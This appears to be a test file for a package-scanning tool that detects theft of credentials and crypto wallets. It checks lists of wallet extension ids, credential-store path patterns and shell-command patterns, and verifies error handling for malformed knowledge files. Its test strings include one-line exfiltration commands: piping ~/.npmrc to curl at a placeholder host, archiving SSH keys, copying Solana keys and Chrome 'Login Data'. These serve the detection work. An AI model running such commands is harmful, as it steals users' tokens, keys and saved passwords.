import assert from 'node:assert/strict';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import {
  credentialPathPattern,
  credentialStores,
  KnowledgeError,
  loadKnowledge,
  shellCredentialPattern,
  walletExtensions,
  walletIdPattern,
} from './index.ts';

it('ships one list of wallet extensions, each id once, with the store page it comes from', () => {
  const list = walletExtensions();
  assert.equal(list.length, 14);
  assert.equal(new Set(list.map(e => e.id)).size, list.length);
  const doc = JSON.parse(readFileSync(new URL('../../data/knowledge/wallet-extensions.json', import.meta.url), 'utf8')) as {
    sources: string[];
    extensions: { id: string; source: string }[];
  };
  assert.ok(doc.sources.length > 0);
  for (const e of doc.extensions) assert.ok(e.source.startsWith('https://') && e.source.endsWith(`/${e.id}`), e.id);
  assert.deepEqual(
    list.filter(e => e.name === 'MetaMask').map(e => [e.id, e.store]),
    [
      ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'chrome'],
      ['ejbalbakoplchlghecdalmeeeajnimhm', 'edge'],
    ],
  );
});

it('matches each id as a whole word only', () => {
  const re = new RegExp(walletIdPattern());
  for (const e of walletExtensions()) assert.ok(re.test(`Local Extension Settings/${e.id}/000003.log`), e.id);
  assert.equal(re.test('xnkbihfbeogaeaoehlefnkodbefgpgknn'), false);
  assert.equal(re.test('abcdefghijklmnopabcdefghijklmnop'), false);
});

it('gives every credential store its sources, and each example matches its store and holds one of its atoms', () => {
  const stores = credentialStores();
  assert.ok(stores.length >= 15);
  for (const s of stores) {
    for (const ex of s.examples) {
      assert.ok(s.test.test(ex), `${s.label}: ${ex}`);
      assert.ok(
        s.atoms.some(a => ex.includes(a)),
        `${s.label}: ${ex} holds none of ${s.atoms.join(', ')}`,
      );
      assert.ok(credentialPathPattern().test(ex), ex);
    }
  }
  // A path separator is either slash, repeated or not.
  assert.ok(credentialPathPattern().test(String.raw`C:\\Users\\u\\.aws\\credentials`));
  assert.equal(credentialPathPattern().test('aws/credentials-helper.ts'), false);
});

it('in shell scripts, counts a store under the home folder only after ~/ or $HOME/', () => {
  const re = shellCredentialPattern();
  assert.ok(re.test('cat ~/.npmrc | curl -d @- https://x.invalid'));
  assert.ok(re.test('tar czf /tmp/k.tgz "$HOME/.ssh/id_ed25519"'));
  assert.ok(re.test('cp "${HOME}/.config/solana/id.json" /tmp'));
  assert.ok(re.test('cp "$LOCALAPPDATA/Google/Chrome/User Data/Default/Login Data" .'));
  // A build writing its own `.npmrc`, or the project's `.ssh` fixture, reads no user secret.
  assert.equal(re.test('echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > .npmrc'), false);
  assert.equal(re.test('chmod 600 test/fixtures/.ssh/id_rsa'), false);
});

describe('a malformed knowledge file', () => {
  const copy = (edit: (file: string, text: string) => string): URL => {
    const dir = mkdtempSync(join(tmpdir(), 'airlock-knowledge-'));
    const from = new URL('../../data/knowledge/', import.meta.url);
    for (const f of readdirSync(from)) writeFileSync(join(dir, f), edit(f, readFileSync(new URL(f, from), 'utf8')));
    return pathToFileURL(`${dir}/`);
  };

  it('is a KnowledgeError naming the file and what is wrong', () => {
    const cases: [string, (f: string, t: string) => string, RegExp][] = [
      ['not JSON', (f, t) => (f === 'credential-stores.json' ? t.slice(0, 100) : t), /credential-stores\.json: is not valid JSON/],
      [
        'no sources',
        (f, t) => (f === 'credential-stores.json' ? t.replace('"sources"', '"source_list"') : t),
        /credential-stores\.json: expected a non-empty "sources" list/,
      ],
      [
        'a bad regular expression',
        (f, t) => (f === 'credential-stores.json' ? t.replace('"match": ["Login Data"]', '"match": ["Login (Data"]') : t),
        /credential-stores\.json: stores\[0\]: Invalid regular expression/,
      ],
      [
        'a network API from no listed module',
        (f, t) => (f === 'network-apis.json' ? t.replace('"needle.get"', '"needless.get"') : t),
        /network-apis\.json: "needless\.get" is neither a global nor a member of a listed module/,
      ],
      [
        'a common word that is not an atom',
        (f, t) => (f === 'credential-stores.json' ? t.replace('"commonWords": ["Cookies"]', '"commonWords": ["Cookie"]') : t),
        /credential-stores\.json: stores\[\d+\]: common word "Cookie" is not one of its atoms/,
      ],
      [
        'an unknown table',
        (f, t) => (f === 'js-sinks.json' ? t.replace('"fingerprint": {', '"fingerprints": {') : t),
        /js-sinks\.json: unknown table "fingerprints"/,
      ],
      [
        'a name listed twice',
        (f, t) => (f === 'shell-tools.json' ? t.replace('"names": ["sh", "bash"', '"names": ["sh", "sh"') : t),
        /shell-tools\.json: "shells": "sh" is listed twice/,
      ],
      [
        'a malformed name',
        (f, t) => (f === 'js-sinks.json' ? t.replace('"exec", "execSync"', '"exec", "exec Sync"') : t),
        /js-sinks\.json: "processShell": "exec Sync" is not a valid name here/,
      ],
      [
        'an installer prefix that is not https',
        (f, t) => (f === 'shell-tools.json' ? t.replace('"https://sh.rustup.rs"', '"http://sh.rustup.rs"') : t),
        /shell-tools\.json: officialInstallers\[0\]: "http:\/\/sh\.rustup\.rs" is not an https URL prefix/,
      ],
      [
        'a bad extension id',
        (f, t) => (f === 'wallet-extensions.json' ? t.replace('nkbihfbeogaeaoehlefnkodbefgpgknn', 'not-an-id') : t),
        /wallet-extensions\.json: extensions\[0\]: "not-an-id" is not a 32-letter extension id/,
      ],
    ];
    for (const [what, edit, message] of cases) {
      assert.throws(
        () => loadKnowledge(copy(edit)),
        (err: unknown) => err instanceof KnowledgeError && message.test(err.message) && /reinstall airlock/.test(err.message),
        what,
      );
    }
  });

  it('loads the shipped files from any folder', () => {
    assert.doesNotThrow(() => loadKnowledge(copy((_f, t) => t)));
  });
});
